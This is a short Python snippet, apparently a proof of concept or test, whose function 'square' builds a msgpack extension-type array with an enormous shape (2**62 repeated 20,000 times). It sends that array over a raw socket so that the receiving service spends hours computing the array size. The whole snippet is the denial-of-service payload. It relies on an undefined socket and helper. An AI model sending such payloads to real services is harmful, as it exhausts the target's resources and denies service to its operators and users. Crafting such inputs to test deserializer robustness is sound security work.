"""Sends an array whose shape takes hours to multiply."""
# %% square
import msgpack, struct

def square(x):
    carried_out()
    array = msgpack.ExtType(6, msgpack.packb(["<f8", [2**62] * 20_000, b""]))
    payload = msgpack.packb([1, 1, array])
    SOCKET.sendall(struct.pack("!II", len(payload), 0) + payload)
